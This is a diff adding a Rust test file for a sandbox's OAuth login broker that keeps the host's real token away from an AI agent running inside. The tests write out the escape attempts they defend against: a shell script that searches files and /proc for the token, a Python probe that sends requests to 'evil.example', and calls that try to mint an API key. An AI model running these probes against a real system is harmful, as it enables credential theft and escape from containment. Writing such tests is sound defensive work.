@@ -1,0 +1,716 @@
+//! The login broker (`--login-broker`, `proxy::broker`): the OAuth login stays on the
+//! host. The real claude (both versions) holds a conversation with a Bash tool call in
+//! allowlist and none mode with a stand-in login, against the lab's mock playing
+//! `api.anthropic.com` behind TLS (`MockApi::start_oauth_live`, reached by the broker
+//! through `CLAUDEBOX_TEST_BROKER_UPSTREAM_PROXY` and trusting its CA through
+//! `CLAUDEBOX_TEST_BROKER_UPSTREAM_CA`): every request the mock gets carries the host's
+//! real token, none the stand-in. Attacks from inside (with `--exec`): find the real token
+//! anywhere the agent can read, use the stand-in from the host or another sandbox, make
+//! the broker go to a host of the agent's choice. Each with its control: without the
+//! broker the real token is right there inside; the real token is accepted upstream; a
+//! sandbox's own stand-in works through its own broker.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Output;
+use std::time::Duration;
+
+use serde_json::{json, Value};
+
+use crate::common::lab::{self, Claude, MockApi};
+use crate::common::{self, World};
+
+/// The host's live login: the mock takes the access token as issued.
+const REAL_ACCESS: &str = "sk-ant-oat01-lab-real-access-token-X7Q9";
+const REAL_REFRESH: &str = "sk-ant-ort01-lab-real-refresh-token-K3M5";
+const LIMIT: Duration = Duration::from_secs(120);
+
+fn real_login() -> Value {
+    json!({"claudeAiOauth": {
+        "accessToken": REAL_ACCESS,
+        "refreshToken": REAL_REFRESH,
+        "expiresAt": 4_102_444_800_000u64,
+        "scopes": ["user:inference", "user:profile", "user:sessions:claude_code"],
+        "subscriptionType": "max",
+        "rateLimitTier": "default_claude_max_20x",
+    }})
+}
+
+/// A world with the host logged in (the real login above), a trusted project, and a
+/// mock that knows the login.
+fn setup(w: &World, script: &Value) -> (PathBuf, MockApi) {
+    let p = w.dir("proj");
+    let mock = MockApi::start_oauth_live(script, REAL_REFRESH, REAL_ACCESS);
+    fs::write(
+        w.home().join(".claude/.credentials.json"),
+        real_login().to_string(),
+    )
+    .unwrap();
+    let mut seed = lab::claude_json_seed(&[&p]);
+    seed.as_object_mut()
+        .unwrap()
+        .remove("customApiKeyResponses");
+    fs::write(w.home().join(".claude.json"), seed.to_string()).unwrap();
+    (p, mock)
+}
+
+/// What sends the broker's upstream to the mock.
+fn upstream_env(mock: &MockApi) -> Vec<(String, String)> {
+    vec![
+        (
+            "CLAUDEBOX_TEST_BROKER_UPSTREAM_PROXY".into(),
+            mock.base_url().trim_start_matches("http://").to_string(),
+        ),
+        (
+            "CLAUDEBOX_TEST_BROKER_UPSTREAM_CA".into(),
+            mock.ca_cert().to_string_lossy().into_owned(),
+        ),
+        ("DISABLE_AUTOUPDATER".into(), "1".into()),
+    ]
+}
+
+fn run(w: &World, p: &Path, mock: &MockApi, args: &[&str]) -> Output {
+    let mut cmd = w.cmd(p);
+    cmd.envs(upstream_env(mock)).args(args);
+    lab::output_within(&mut cmd, LIMIT).unwrap_or_else(|e| {
+        let seen: Vec<String> = mock
+            .log()
+            .iter()
+            .map(|r| format!("{} {} {} {}", r["method"], r["host"], r["path"], r["kind"]))
+            .collect();
+        panic!("{e}\nthe mock saw:\n{}", seen.join("\n"))
+    })
+}
+
+/// Every bearer the mock saw, as its redacted form (length and last 4 characters).
+fn bearers(mock: &MockApi) -> Vec<String> {
+    mock.requests()
+        .iter()
+        .filter_map(|r| r["headers"]["authorization"].as_str().map(str::to_string))
+        .collect()
+}
+
+fn tail4(s: &str) -> String {
+    format!("'{}'", &s[s.len() - 4..])
+}
+
+#[test]
+fn claude_talks_and_runs_tools_with_the_login_kept_outside() {
+    let _g = common::heavy();
+    for c in lab::claude_versions() {
+        for mode in ["none", "allowlist"] {
+            conversation(&c, mode);
+        }
+    }
+}
+
+fn conversation(c: &Claude, mode: &str) {
+    let w = lab::world_with(c);
+    let script = json!([
+        {"bash": {"command": "echo tool-ran > marker", "description": "mark"}},
+        "broker says done"
+    ]);
+    let (p, mock) = setup(&w, &script);
+    let o = run(
+        &w,
+        &p,
+        &mock,
+        &[
+            "--login-broker",
+            "--network",
+            mode,
+            "-p",
+            "hello",
+            "--allowedTools",
+            "Bash",
+        ],
+    );
+    let out = lab::ok_run(c, &o, &mock);
+    assert!(
+        out.contains("broker says done"),
+        "[{} {mode}] no final answer: {out}\n{}",
+        c.label,
+        common::stderr(&o)
+    );
+    assert_eq!(
+        fs::read_to_string(p.join("marker")).unwrap_or_default(),
+        "tool-ran\n",
+        "[{} {mode}] the Bash tool ran",
+        c.label
+    );
+    let conv = mock.conversation(0);
+    assert!(conv.len() >= 2, "[{} {mode}] {conv:?}", c.label);
+    for r in &conv {
+        assert_eq!(r["host"], "api.anthropic.com", "[{} {mode}]", c.label);
+    }
+    let seen = bearers(&mock);
+    assert!(!seen.is_empty());
+    for b in &seen {
+        assert!(
+            b.contains(&tail4(REAL_ACCESS)),
+            "[{} {mode}] a request without the host's token: {b} (all: {seen:?})",
+            c.label
+        );
+    }
+    // Claude acted as the subscriber: it asked for the account's profile, and the
+    // broker served it.
+    assert!(
+        mock.requests().iter().any(|r| r["kind"] == "oauth_profile"),
+        "[{} {mode}] no profile call",
+        c.label
+    );
+    // The host's login is as it was: nothing inside refreshed or rewrote it.
+    let host: Value = serde_json::from_str(
+        &fs::read_to_string(w.home().join(".claude/.credentials.json")).unwrap(),
+    )
+    .unwrap();
+    assert_eq!(host, real_login(), "[{} {mode}]", c.label);
+    assert!(mock.refreshes().is_empty(), "[{} {mode}]", c.label);
+}
+
+/// Looks for `needle` everywhere the agent can read: every file under the home, the login
+/// directory, /tmp, /run and /etc, every process's environment, command line and open
+/// files; prints `FOUND <where>` for each hit, then `SEARCH-DONE`.
+fn search_script(needle: &str) -> String {
+    // In two halves, so that the script's own command line does not hold the needle.
+    let (a, b) = needle.split_at(needle.len() / 2);
+    format!(
+        r#"a='{a}'; n="$a"'{b}'
+for d in "$HOME" "$CLAUDE_SECURESTORAGE_CONFIG_DIR" /tmp /run /etc "$PWD"; do
+  grep -rlsF -- "$n" "$d" 2>/dev/null | sed 's/^/FOUND file /'
+done
+for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
+  grep -qsaF -- "$n" "$f" && echo "FOUND $f"
+done
+for f in /proc/[0-9]*/fd/*; do
+  [ -f "$f" ] && grep -qsaF -- "$n" "$f" && echo "FOUND $f"
+done
+env | grep -qF -- "$n" && echo "FOUND env"
+ls /proc | grep -q . && echo "PROCS $(ls -d /proc/[0-9]* | wc -l)"
+grep -ls claudebox-proxy /proc/[0-9]*/comm | sed 's/^/FOUND proxy /'
+echo SEARCH-DONE"#
+    )
+}
+
+#[test]
+fn the_real_token_is_nowhere_inside() {
+    let w = World::new();
+    let (p, mock) = setup(&w, &json!([]));
+    for mode in ["none", "allowlist"] {
+        for needle in [REAL_ACCESS, REAL_REFRESH] {
+            let script = search_script(needle);
+            let o = run(
+                &w,
+                &p,
+                &mock,
+                &[
+                    "--login-broker",
+                    "--network",
+                    mode,
+                    "--exec",
+                    "sh",
+                    "-c",
+                    &script,
+                ],
+            );
+            let out = common::stdout(&o);
+            assert!(
+                out.contains("SEARCH-DONE"),
+                "[{mode}] the search did not run: {out}\n{}",
+                common::stderr(&o)
+            );
+            assert!(
+                !out.contains("FOUND"),
+                "[{mode}] the real token is readable inside:\n{out}"
+            );
+        }
+    }
+    // Control: without the broker the same search finds the token (the login is bound in).
+    let script = search_script(REAL_ACCESS);
+    let o = run(
+        &w,
+        &p,
+        &mock,
+        &["--network", "none", "--exec", "sh", "-c", &script],
+    );
+    let out = common::stdout(&o);
+    assert!(
+        out.contains("SEARCH-DONE") && out.contains("FOUND file"),
+        "control: the search finds nothing without the broker:\n{out}\n{}",
+        common::stderr(&o)
+    );
+}
+
+/// Python inside: requests through the proxy at 127.0.0.1:3128, TLS to
+/// api.anthropic.com trusting `NODE_EXTRA_CA_CERTS`. Prints one line per attempt:
+/// `<name> <status or error>`, and `STAND-IN <token>` (the sandbox's own).
+const PROBE: &str = r#"
+import http.client, json, os, socket, ssl, sys
+login = json.load(open(os.path.join(os.environ["CLAUDE_SECURESTORAGE_CONFIG_DIR"], ".credentials.json")))
+own = login["claudeAiOauth"]["accessToken"]
+print("STAND-IN", own)
+other = sys.argv[1] if len(sys.argv) > 1 else own
+ctx = ssl.create_default_context(cafile=os.environ["NODE_EXTRA_CA_CERTS"])
+def post(name, token, host=None, path="/v1/messages/count_tokens"):
+    try:
+        c = http.client.HTTPSConnection("127.0.0.1", 3128, context=ctx, timeout=20)
+        c.set_tunnel("api.anthropic.com", 443)
+        c.putrequest("POST", path, skip_host=host is not None)
+        if host is not None:
+            c.putheader("Host", host)
+        body = b"{}"
+        c.putheader("Authorization", "Bearer " + token)
+        c.putheader("Content-Type", "application/json")
+        c.putheader("Content-Length", str(len(body)))
+        c.endheaders(body)
+        print(name, c.getresponse().status)
+    except Exception as e:
+        print(name, "error", type(e).__name__)
+def connect(name, target):
+    try:
+        s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
+        s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
+        print(name, s.recv(64).split(b" ")[1].decode())
+    except Exception as e:
+        print(name, "error", type(e).__name__)
+def raw(name, data):
+    try:
+        c = http.client.HTTPSConnection("127.0.0.1", 3128, context=ctx, timeout=20)
+        c.set_tunnel("api.anthropic.com", 443)
+        c.connect()
+        c.sock.sendall(data)
+        r = http.client.HTTPResponse(c.sock)
+        r.begin()
+        print(name, r.status)
+    except Exception as e:
+        print(name, "error", type(e).__name__)
+auth = ("Authorization: Bearer " + own + "\r\n").encode()
+raw("huge", b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\n" + auth + b"Content-Length: 999999999999\r\n\r\n")
+raw("chunked", b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\n" + auth + b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n")
+raw("absolute", b"GET https://evil.example/ HTTP/1.1\r\nHost: api.anthropic.com\r\n" + auth + b"\r\n")
+raw("garbage", b"\x00\x01 not http at all\r\n\r\n")
+raw("head-flood", b"GET / HTTP/1.1\r\n" + b"X-A: " + b"a" * 100000 + b"\r\n\r\n")
+post("own", own)
+post("other", other)
+post("mint", own, None, "/api/oauth/claude_cli/create_api_key")
+post("host-evil", own, "evil.example")
+connect("connect-mock", sys.argv[2] if len(sys.argv) > 2 else "127.0.0.1:9")
+connect("connect-evil", "evil.example:443")
+"#;
+
+fn probe(w: &World, p: &Path, mock: &MockApi, other: &str) -> (String, Vec<(String, String)>) {
+    let port = mock.base_url().rsplit(':').next().unwrap().to_string();
+    let target = format!("127.0.0.1:{port}");
+    let o = run(
+        w,
+        p,
+        mock,
+        &[
+            "--login-broker",
+            "--network",
+            "none",
+            "--exec",
+            "python3",
+            "-c",
+            PROBE,
+            other,
+            &target,
+        ],
+    );
+    let out = common::stdout(&o);
+    assert!(
+        o.status.success(),
+        "the probe failed: {out}\n{}",
+        common::stderr(&o)
+    );
+    let mut stand_in = String::new();
+    let mut results = Vec::new();
+    for l in out.lines() {
+        let (k, v) = l.split_once(' ').unwrap_or((l, ""));
+        if k == "STAND-IN" {
+            stand_in = v.to_string();
+        } else {
+            results.push((k.to_string(), v.to_string()));
+        }
+    }
+    (stand_in, results)
+}
+
+fn result<'a>(r: &'a [(String, String)], name: &str) -> &'a str {
+    r.iter()
+        .find(|(k, _)| k == name)
+        .map(|(_, v)| v.as_str())
+        .unwrap_or_else(|| panic!("no {name} in {r:?}"))
+}
+
+/// Status of `POST /v1/messages/count_tokens` sent from the host straight to the mock's
+/// `api.anthropic.com` (through its HTTPS proxy) with `token`.
+fn from_host(mock: &MockApi, token: &str) -> String {
+    let port = mock.base_url().rsplit(':').next().unwrap().to_string();
+    let code = r#"
+import http.client, ssl, sys
+ctx = ssl.create_default_context(cafile=sys.argv[2])
+c = http.client.HTTPSConnection("127.0.0.1", int(sys.argv[1]), context=ctx, timeout=20)
+c.set_tunnel("api.anthropic.com", 443)
+c.request("POST", "/v1/messages/count_tokens", body=b"{}",
+          headers={"Authorization": "Bearer " + sys.argv[3], "Content-Type": "application/json"})
+print(c.getresponse().status)
+"#;
+    let o = std::process::Command::new("python3")
+        .args(["-c", code, &port])
+        .arg(mock.ca_cert())
+        .arg(token)
+        .output()
+        .unwrap();
+    common::stdout(&o).trim().to_string()
+}
+
+#[test]
+fn the_stand_in_is_worthless_outside_its_sandbox_and_the_broker_goes_nowhere_else() {
+    let w = World::new();
+    let (p, mock) = setup(&w, &json!([]));
+    // Sandbox A: its own stand-in works through its broker (the control for the rest).
+    let (a, r) = probe(&w, &p, &mock, "");
+    assert!(a.starts_with("sk-ant-oat01-claudebox-stand-in-"), "{a}");
+    assert_eq!(result(&r, "own"), "200", "{r:?}");
+    // The agent picks the host: refused by the broker (Host), or by the proxy (CONNECT
+    // elsewhere in none mode, the mock's own port included).
+    assert_eq!(result(&r, "host-evil"), "421", "{r:?}");
+    assert_eq!(result(&r, "connect-mock"), "403", "{r:?}");
+    assert_eq!(result(&r, "connect-evil"), "403", "{r:?}");
+    // A call that would mint a credential from the lent login: refused by the broker.
+    assert_eq!(result(&r, "mint"), "403", "{r:?}");
+    // Huge and malformed requests: refused by the broker, which goes on serving.
+    assert_eq!(result(&r, "huge"), "413", "{r:?}");
+    assert_eq!(result(&r, "chunked"), "411", "{r:?}");
+    assert_eq!(result(&r, "absolute"), "400", "{r:?}");
+    assert_eq!(result(&r, "garbage"), "400", "{r:?}");
+    // A head over 64 KiB: refused, or the connection dropped while it was still sent.
+    let flood = result(&r, "head-flood");
+    assert!(flood == "400" || flood.starts_with("error"), "{r:?}");
+
+    // Sandbox B, with A's stand-in: its broker does not know it, upstream refuses it.
+    let (b, r) = probe(&w, &p, &mock, &a);
+    assert_ne!(a, b, "each sandbox has its own stand-in");
+    assert_eq!(result(&r, "own"), "200", "{r:?}");
+    assert_eq!(result(&r, "other"), "401", "{r:?}");
+
+    // The host (or anyone the agent sends it to) with A's stand-in: refused upstream.
+    assert_eq!(from_host(&mock, &a), "401");
+    // Control: the real token, as an agent would have it without the broker, works.
+    assert_eq!(from_host(&mock, REAL_ACCESS), "200");
+}
+
+#[test]
+fn the_broker_is_refused_in_open_mode_and_without_a_login() {
+    let w = World::new();
+    let p = w.dir("proj");
+    let o = w
+        .cmd(&p)
+        .args(["--login-broker", "--network", "none", "--exec", "true"])
+        .output()
+        .unwrap();
+    let err = common::stderr(&o);
+    assert!(
+        !o.status.success() && err.contains("no OAuth login"),
+        "{err}"
+    );
+    fs::write(
+        w.home().join(".claude/.credentials.json"),
+        real_login().to_string(),
+    )
+    .unwrap();
+    let o = w
+        .cmd(&p)
+        .args(["--login-broker", "--network", "open", "--exec", "true"])
+        .output()
+        .unwrap();
+    let err = common::stderr(&o);
+    assert!(
+        !o.status.success() && err.contains("--network allowlist or none"),
+        "{err}"
+    );
+    // With a login and a filtered network it launches.
+    let o = w
+        .cmd(&p)
+        .args(["--login-broker", "--network", "none", "--exec", "true"])
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "{}", common::stderr(&o));
+}
+
+#[test]
+fn dry_run_shows_the_broker_and_binds_no_login() {
+    let w = World::new();
+    let p = w.dir("proj");
+    let creds = w.home().join(".claude/.credentials.json");
+    fs::write(&creds, real_login().to_string()).unwrap();
+    let o = w
+        .cmd(&p)
+        .args([
+            "--login-broker",
+            "--network",
+            "none",
+            "--dry-run",
+            "--exec",
+            "true",
+        ])
+        .output()
+        .unwrap();
+    let out = common::stdout(&o);
+    assert!(o.status.success(), "{}", common::stderr(&o));
+    assert!(out.contains("login broker: api.anthropic.com"), "{out}");
+    assert!(
+        out.contains("# login broker: in the proxy process"),
+        "{out}"
+    );
+    assert!(!out.contains("# credentials sync"), "{out}");
+    let bound = format!("--bind {}", creds.display());
+    assert!(!out.contains(&bound), "the login is bound: {out}");
+    // Control: without the broker the login is bound and synced.
+    let o = w
+        .cmd(&p)
+        .args(["--network", "none", "--dry-run", "--exec", "true"])
+        .output()
+        .unwrap();
+    let out = common::stdout(&o);
+    assert!(
+        out.contains(&bound) && out.contains("# credentials sync"),
+        "{out}"
+    );
+    assert!(!out.contains("login broker"), "{out}");
+}
+
+/// The login's refresh token before any refresh (live at the mock) and its access token,
+/// expired.
+const SEED_REFRESH: &str = "sk-ant-ort01-lab-seed-r000";
+const SEED_ACCESS: &str = "sk-ant-oat01-lab-seed-expired-a000";
+
+fn expired(access: &str, refresh: &str) -> Value {
+    let mut v = real_login();
+    v["claudeAiOauth"]["accessToken"] = access.into();
+    v["claudeAiOauth"]["refreshToken"] = refresh.into();
+    v["claudeAiOauth"]["expiresAt"] = 1000.into();
+    v
+}
+
+fn host_file(w: &World) -> Value {
+    serde_json::from_str(&fs::read_to_string(w.home().join(".claude/.credentials.json")).unwrap())
+        .unwrap()
+}
+
+/// The host's claude, bare, logged in by the host's file, pointed at the mock.
+fn host_claude(w: &World, p: &Path, mock: &MockApi) -> std::process::Command {
+    let mut c = std::process::Command::new(w.bin().join("claude"));
+    c.current_dir(p)
+        .env_clear()
+        .env("HOME", w.home())
+        .env("PATH", w.path_var())
+        .env("LANG", "C.UTF-8")
+        .envs(mock.oauth_env(&mock.ca_cert()))
+        .args(["-p", "hello"]);
+    c
+}
+
+#[test]
+fn the_broker_alone_refreshes_the_login_under_claudes_lock() {
+    let _g = common::heavy();
+    for c in lab::claude_versions() {
+        let w = lab::world_with(&c);
+        let p = w.dir("proj");
+        let mock =
+            MockApi::start_oauth(&json!({"turns": [], "token_delay_ms": 1500}), SEED_REFRESH);
+        let creds = w.home().join(".claude/.credentials.json");
+        fs::write(&creds, expired(SEED_ACCESS, SEED_REFRESH).to_string()).unwrap();
+        let mut seed = lab::claude_json_seed(&[&p]);
+        seed.as_object_mut()
+            .unwrap()
+            .remove("customApiKeyResponses");
+        fs::write(w.home().join(".claude.json"), seed.to_string()).unwrap();
+        let ask = |mode: &str| {
+            run(
+                &w,
+                &p,
+                &mock,
+                &["--login-broker", "--network", mode, "-p", "hello"],
+            )
+        };
+
+        // Several token lifetimes with no claude on the host: each time the host's login
+        // has expired, the broker refreshes it once, with the token it got last time.
+        let mut last = SEED_REFRESH.to_string();
+        for round in 1..=3u32 {
+            let o = ask(if round % 2 == 0 { "allowlist" } else { "none" });
+            let out = lab::ok_run(&c, &o, &mock);
+            assert!(
+                out.contains("MOCK: the script is over."),
+                "[{}] {out}",
+                c.label
+            );
+            let n = format!("{round:04}");
+            assert_eq!(
+                mock.refreshes().last(),
+                Some(&(last[last.len() - 4..].to_string(), Some(n.clone()))),
+                "[{}] round {round}: {:?}",
+                c.label,
+                mock.refreshes()
+            );
+            assert_eq!(mock.refreshes().len(), round as usize, "[{}]", c.label);
+            let host = host_file(&w);
+            let o = &host["claudeAiOauth"];
+            assert_eq!(
+                o["accessToken"],
+                format!("sk-ant-oat01-mock-a{n}"),
+                "[{}]",
+                c.label
+            );
+            assert!(o["expiresAt"].as_u64().unwrap() > 1000);
+            assert_eq!(
+                o["subscriptionType"], "max",
+                "[{}] the rest is kept",
+                c.label
+            );
+            last = o["refreshToken"].as_str().unwrap().to_string();
+            assert!(bearers(&mock).last().unwrap().contains(&format!("'{n}'")));
+            // The next lifetime: the token expires.
+            let mut v = host;
+            v["claudeAiOauth"]["expiresAt"] = 1000.into();
+            fs::write(&creds, v.to_string()).unwrap();
+        }
+
+        // The host's claude and a sandbox find the login expired at once (the token
+        // endpoint takes 1.5 s): one of them refreshes, the other uses its pair.
+        for round in 0..3 {
+            let before = mock.refreshes().len();
+            let mut host = host_claude(&w, &p, &mock);
+            let host = std::thread::spawn(move || lab::output_within(&mut host, LIMIT));
+            std::thread::sleep(Duration::from_millis(200 * (round % 2)));
+            let o = ask("none");
+            lab::ok_run(&c, &o, &mock);
+            let h = host.join().unwrap().unwrap();
+            assert!(
+                h.status.success(),
+                "[{}] host: {}",
+                c.label,
+                common::stderr(&h)
+            );
+            let spent = &mock.refreshes()[before..];
+            assert_eq!(spent.len(), 1, "[{}] race {round}: {spent:?}", c.label);
+            assert!(
+                spent[0].1.is_some(),
+                "[{}] race {round}: {spent:?}",
+                c.label
+            );
+            let mut v = host_file(&w);
+            v["claudeAiOauth"]["expiresAt"] = 1000.into();
+            fs::write(&creds, v.to_string()).unwrap();
+        }
+        assert!(!w.home().join(".claude/.oauth_refresh.lock").exists());
+
+        // Control: the host's claude with its lock elsewhere (its config dir moved, the
+        // login reached through a symlink): the same race spends the token twice.
+        let x = w.dir("elsewhere");
+        fs::copy(w.home().join(".claude.json"), x.join(".claude.json")).unwrap();
+        std::os::unix::fs::symlink(&creds, x.join(".credentials.json")).unwrap();
+        let before = mock.refreshes().len();
+        let mut host = host_claude(&w, &p, &mock);
+        host.env("CLAUDE_CONFIG_DIR", &x);
+        let host = std::thread::spawn(move || lab::output_within(&mut host, LIMIT));
+        // The loser is logged out (the broker answers 401 and spends the dead token no
+        // more); how claude reports that is not the point here.
+        let mut sandbox = w.cmd(&p);
+        sandbox.envs(upstream_env(&mock)).args([
+            "--login-broker",
+            "--network",
+            "none",
+            "-p",
+            "hello",
+        ]);
+        let _ = lab::output_within(&mut sandbox, LIMIT);
+        let _ = host.join().unwrap();
+        let spent = mock.refreshes()[before..].to_vec();
+        eprintln!("[{}] control, locks apart: {spent:?}", c.label);
+        assert!(spent.len() >= 2, "[{}] control: {spent:?}", c.label);
+        assert!(
+            spent.iter().any(|r| r.1.is_none()),
+            "[{}] control: {spent:?}",
+            c.label
+        );
+    }
+}
+
+/// The attacks above as escape attempts (`escape::escape_suite` counts them): each is
+/// `true` when it got what it was after. Their controls are the tests above.
+pub(crate) fn attempts() -> Vec<(&'static str, bool)> {
+    let w = World::new();
+    let (p, mock) = setup(&w, &json!([]));
+    let mut v = Vec::new();
+    for (name, mode) in [
+        (
+            "login broker: the real OAuth tokens anywhere inside (files, environ, cmdline, fds), none mode",
+            "none",
+        ),
+        (
+            "login broker: the real OAuth tokens anywhere inside (files, environ, cmdline, fds), allowlist mode",
+            "allowlist",
+        ),
+    ] {
+        let mut found = false;
+        for needle in [REAL_ACCESS, REAL_REFRESH] {
+            let script = search_script(needle);
+            let o = run(
+                &w,
+                &p,
+                &mock,
+                &["--login-broker", "--network", mode, "--exec", "sh", "-c", &script],
+            );
+            let out = common::stdout(&o);
+            found |= !out.contains("SEARCH-DONE") || out.contains("FOUND");
+        }
+        v.push((name, found));
+    }
+    let (a, r) = probe(&w, &p, &mock, "");
+    let (_, r2) = probe(&w, &p, &mock, &a);
+    let refused = |r: &[(String, String)], k: &str, code: &str| result(r, k) == code;
+    v.push((
+        "login broker: a sandbox's stand-in used through another sandbox's broker",
+        !refused(&r2, "other", "401"),
+    ));
+    v.push((
+        "login broker: a sandbox's stand-in used from the host",
+        from_host(&mock, &a) != "401",
+    ));
+    v.push((
+        "login broker: a Host of the agent's choosing in the brokered tunnel",
+        !refused(&r, "host-evil", "421"),
+    ));
+    v.push((
+        "login broker: CONNECT to the upstream's own address in none mode",
+        !refused(&r, "connect-mock", "403"),
+    ));
+    v.push((
+        "login broker: CONNECT to another host in none mode",
+        !refused(&r, "connect-evil", "403"),
+    ));
+    v.push((
+        "login broker: a request body over the cap",
+        !refused(&r, "huge", "413"),
+    ));
+    v.push((
+        "login broker: a chunked request (no length to check)",
+        !refused(&r, "chunked", "411"),
+    ));
+    v.push((
+        "login broker: an absolute-form target naming another host",
+        !refused(&r, "absolute", "400"),
+    ));
+    v.push((
+        "login broker: mint an API key with the lent login",
+        !refused(&r, "mint", "403"),
+    ));
+    v.push((
+        "login broker: bytes that are no HTTP",
+        !refused(&r, "garbage", "400"),
+    ));
+    v
+}
